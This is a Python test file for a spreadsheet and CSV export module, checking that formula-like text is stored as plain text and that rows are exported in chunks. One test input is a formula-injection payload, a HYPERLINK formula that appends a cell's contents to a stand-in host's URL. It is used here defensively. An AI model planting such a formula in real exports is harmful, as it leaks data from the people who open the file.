"""The XLSX writer (commitments/exports.py): text stays text."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from commitments import access, exports, selectors, services
from tests import factories

LINK = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"])
def test_a_text_that_starts_like_a_formula_is_written_as_text(text):
    book = Workbook()
    exports._append(book.active, ["code", text, 3.5])
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["B1"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_a_unit_named_like_a_formula_reaches_the_workbook_as_text(catalogue):
    department = factories.department()
    desk = factories.unit("vp", parent=department, receives_dossiers=True, name=LINK)
    factories.figure(desk, "dossiers_resolved", 100, category="land")
    factories.figure(desk, "dossiers_on_time", 99, category="land")
    services.recompute.statuses_recompute(year=2021)
    data = exports.workbook(year=2021, quarter=1, scope=access.ALL_UNITS)
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == LINK]
    assert cells, "the unit's name is in the workbook"
    assert all(c.data_type == "s" for c in cells)
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


@pytest.fixture
def desks(catalogue):
    """A department and five desks with two fields each: rows enough to cross chunks."""
    department = factories.department()
    for n in range(5):
        desk = factories.unit(f"desk-{n}", parent=department, receives_dossiers=True)
        for field, on_time in (("land", 95), ("crop", 99)):
            factories.figure(desk, "dossiers_resolved", 100, category=field)
            factories.figure(desk, "dossiers_on_time", on_time, category=field)
    services.recompute.statuses_recompute(year=2021)


def test_the_workbook_reads_its_rows_in_chunks_in_report_order(desks, monkeypatch):
    whole = load_workbook(
        io.BytesIO(exports.workbook(year=2021, quarter=1, scope=access.ALL_UNITS))
    )
    monkeypatch.setattr(exports, "CHUNK", 3)  # every unit's rows cross a chunk's edge
    data = exports.workbook(year=2021, quarter=1, scope=access.ALL_UNITS)
    chunked = load_workbook(io.BytesIO(data))
    rows = [[c.value for c in row] for row in chunked["Cam kết 5"].iter_rows()]
    assert rows == [[c.value for c in row] for row in whole["Cam kết 5"].iter_rows()]
    per_field = [r for r in rows[1:] if r[0] == "5.1"]
    # The department first, then each unit: its whole, then its fields in their order.
    assert per_field[0][2] == per_field[1][2] != per_field[-1][2]
    desk = [r[3] for r in per_field if r[2] == per_field[-1][2]]
    assert desk == [None, "Trồng trọt và Bảo vệ thực vật", "Đất đai"]
    assert chunked["Cam kết 5"].freeze_panes == "A2"


def test_the_csv_is_yielded_a_few_lines_at_a_time(desks):
    chunks = list(exports.status_csv(year=2021, scope=access.ALL_UNITS, rows_per_chunk=10))
    assert len(chunks) > 2
    lines = "".join(chunks).lstrip("\ufeff").splitlines()
    rows = selectors.statuses.status_export_rows(year=2021)
    assert len(lines) == 1 + len(rows)
    assert all(len(chunk.splitlines()) <= 11 for chunk in chunks)
